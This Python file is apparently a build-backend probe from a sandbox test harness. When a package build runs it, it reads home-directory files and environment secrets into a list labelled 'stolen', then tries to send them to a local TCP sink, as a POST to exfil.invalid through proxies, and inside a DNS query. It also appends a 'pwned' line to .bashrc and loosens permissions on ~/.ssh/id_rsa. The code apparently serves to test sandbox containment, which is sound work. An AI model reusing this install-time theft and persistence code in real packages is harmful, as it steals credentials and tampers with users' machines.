import base64 as _b64, errno as _errno, hashlib as _hl, json as _json, os as _os
import socket as _socket, sys as _sys, zipfile as _zip
CFG = _json.loads(__CFG__)
def _en(e):
    if isinstance(e, OSError) and e.errno:
        return _errno.errorcode.get(e.errno, "E%d" % e.errno)
    if isinstance(e, (TimeoutError, _socket.timeout)):
        return "TIMEOUT"
    return "EXC:%s:%s" % (type(e).__name__, e)
def _attempt(R, key, fn):
    try:
        v = fn()
        R[key] = "OK" if v is None else v
    except BaseException as e:
        R[key] = _en(e)
def _proxy_env():
    for k in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy"):
        if _os.environ.get(k):
            return _os.environ[k]
    return None
def _hostport(url):
    h, _, p = url.split("://", 1)[-1].split("/", 1)[0].rpartition(":")
    return h, int(p)
def _tcp_send(host, port, data, reply=False):
    s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
        s.sendall(data)
        if reply:
            s.recv(64)
    finally:
        s.close()
def _get(host, port, target):
    req = "GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: close\r\n\r\n" % (target, CFG["index_port"])
    _tcp_send(host, port, req.encode(), reply=True)

# Import time: whoever imports this module runs this.
IMPORTED = {"pid": str(_os.getpid()), "proxy_env": _proxy_env() or "unset"}
_ran = "%s%s/%s/%d" % (CFG["backend_ran"], CFG["marker"], CFG["name"], _os.getpid())
_abs = "http://127.0.0.1:%d%s" % (CFG["index_port"], _ran)
_attempt(IMPORTED, "index_direct", lambda: _get("127.0.0.1", CFG["index_port"], _ran))
if _proxy_env():
    _attempt(IMPORTED, "index_via_proxy_env", lambda: _get(*_hostport(_proxy_env()), _abs))
_attempt(IMPORTED, "index_via_3128", lambda: _get("127.0.0.1", 3128, _abs))

def _probe():
    R = {"import:" + k: v for k, v in IMPORTED.items()}
    R["uid"] = str(_os.getuid())
    R["cwd"] = _os.getcwd()
    stolen = []
    def rd(p):
        with open(p, "rb") as f:
            stolen.append(f.read(300).decode("utf-8", "replace").strip())
    for rel in CFG["files"]:
        _attempt(R, "read_home:" + rel, lambda rel=rel: rd(_os.path.join(_os.path.expanduser("~"), rel)))
        _attempt(R, "read_abs:" + rel, lambda rel=rel: rd(_os.path.join(CFG["host_home"], rel)))
    for n in CFG["env"]:
        v = _os.environ.get(n)
        R["env:" + n] = "present" if v else "absent"
        if v:
            stolen.append(v)
    R["env:HTTPS_PROXY"] = _os.environ.get("HTTPS_PROXY") or "unset"
    R["proxy_env"] = _proxy_env() or "unset"
    payload = ("EXFIL %s %s" % (CFG["marker"], " ".join(stolen))).encode()
    _attempt(R, "tcp_sink", lambda: _tcp_send("127.0.0.1", CFG["tcp_port"], payload))
    post = (b"POST http://exfil.invalid/collect HTTP/1.1\r\nHost: exfil.invalid\r\n"
            b"Content-Length: %d\r\n\r\n" % len(payload)) + payload
    if _proxy_env():
        _attempt(R, "proxy_via_env", lambda: _tcp_send(*_hostport(_proxy_env()), post))
    _attempt(R, "proxy_3128", lambda: _tcp_send("127.0.0.1", 3128, post))
    data = "".join("%02x" % b for b in " ".join(stolen).encode()[:31]) or "none"
    q = b"\x53\x45\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in (CFG["marker"], data, "exfil", "invalid"):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00\x00\x10\x00\x01"
    try:
        s = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    except OSError as e:
        # The fallback mode refuses socket() itself.
        s = None
        R["dns_send"], R["dns_recv"] = _en(e), "not sent"
    if s is not None:
        s.settimeout(2)
        try:
            _attempt(R, "dns_send", lambda: s.connect(("127.0.0.1", CFG["dns_port"])) or s.send(q) and None)
            if R["dns_send"] == "OK":
                _attempt(R, "dns_recv", lambda: s.recv(512) and None)
            else:
                R["dns_recv"] = "not sent"
        finally:
            s.close()
    def write(path, mode="w"):
        with open(path, mode) as f:
            f.write("\n# pwned %s\n" % CFG["marker"])
    _attempt(R, "write_project", lambda: write(_os.path.join(CFG["project"], "PWNED-" + CFG["marker"])))
    _attempt(R, "write_bashrc", lambda: write(_os.path.join(CFG["host_home"], ".bashrc"), "a"))
    _attempt(R, "write_cache", lambda: write(_os.path.join(CFG["host_home"], ".cache", "seal", "PWNED-" + CFG["marker"])))
    _attempt(R, "chmod_home", lambda: _os.chmod(_os.path.join(CFG["host_home"], ".ssh", "id_rsa"), 0o644))
    return R

def _rec(b):
    return "sha256=" + _b64.urlsafe_b64encode(_hl.sha256(b).digest()).rstrip(b"=").decode()

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    R = _probe()
    log = _json.dumps(R, sort_keys=True)
    _sys.stderr.write("SEAL-SDIST-PROBE " + log + "\n")
    _sys.stderr.flush()
    name, version = CFG["name"], CFG["version"]
    di = "%s-%s.dist-info" % (name, version)
    files = [
        (name + "/__init__.py", ("BUILT_BY = 'seal-test probe backend %s'\n" % CFG["marker"]).encode()),
        (name + "/probe_log.json", log.encode()),
        (di + "/METADATA", ("Metadata-Version: 2.1\nName: %s\nVersion: %s\n" % (name, version)).encode()),
        (di + "/WHEEL", b"Wheel-Version: 1.0\nGenerator: seal-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
    ]
    record = "".join("%s,%s,%d\n" % (p, _rec(c), len(c)) for p, c in files) + di + "/RECORD,,\n"
    files.append((di + "/RECORD", record.encode()))
    whl = "%s-%s-py3-none-any.whl" % (name, version)
    with _zip.ZipFile(_os.path.join(wheel_directory, whl), "w", _zip.ZIP_DEFLATED) as z:
        for p, c in files:
            zi = _zip.ZipInfo(p, (2020, 1, 1, 0, 0, 0))
            zi.external_attr = 0o644 << 16
            zi.compress_type = _zip.ZIP_DEFLATED
            z.writestr(zi, c)
    return whl
